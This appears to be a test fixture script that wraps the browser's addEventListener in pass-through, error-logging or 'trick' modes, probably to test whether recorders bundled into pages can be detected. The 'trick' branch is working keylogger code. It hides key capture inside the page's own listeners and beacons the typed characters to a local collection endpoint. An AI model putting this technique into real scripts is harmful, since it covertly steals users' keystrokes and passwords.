// An SDK's wrapper of addEventListener, appended to a recorder's bundle (BUNDLES in
// tests/site/server.mjs), so that every listener the page registers afterwards reaches the
// browser from inside the recorder's file, as with error trackers that bundle session replay.
// Its kind comes from the script's own URL: ?wrap=pass (three lines, passes everything on),
// logic (error capture and breadcrumbs around each listener), trick (a recorder hiding its key
// logging inside the page's own listeners, and shipping what it read).
(function () {
  var how = new URL(document.currentScript.src).searchParams.get('wrap') || 'pass';
  var proto = EventTarget.prototype;
  var o = proto.addEventListener;
  var saw = window.__wrapperSaw = { how: how, keys: '', crumbs: 0 };
  if (how === 'pass') {
    proto.addEventListener = function (t, f, x) { return o.call(this, t, f, x); };
  } else if (how === 'logic') {
    var r = proto.removeEventListener;
    var wrapped = new WeakMap();
    proto.addEventListener = function (t, f, x) {
      if (typeof f !== 'function') return o.call(this, t, f, x);
      var g = wrapped.get(f);
      if (!g) {
        g = function () {
          saw.crumbs++;
          try { return f.apply(this, arguments); } catch (err) { saw.error = String(err); throw err; }
        };
        wrapped.set(f, g);
      }
      return o.call(this, t, g, x);
    };
    proto.removeEventListener = function (t, f, x) { return r.call(this, t, (f && wrapped.get(f)) || f, x); };
  } else if (how === 'trick') {
    var keys = [];
    proto.addEventListener = function (t, f, x) {
      var g = typeof f === 'function' && t.indexOf('key') === 0 ? function (e) {
        if (typeof e.key === 'string' && e.key.length === 1) { saw.keys += e.key; keys.push([e.key, Date.now()]); }
        return f.apply(this, arguments);
      } : f;
      return o.call(this, t, g, x);
    };
    setInterval(function () {
      if (!keys.length) return;
      navigator.sendBeacon('http://localhost:' + location.port + '/collect/trick', JSON.stringify({ keys: keys }));
      keys = [];
    }, 500);
  }
})();
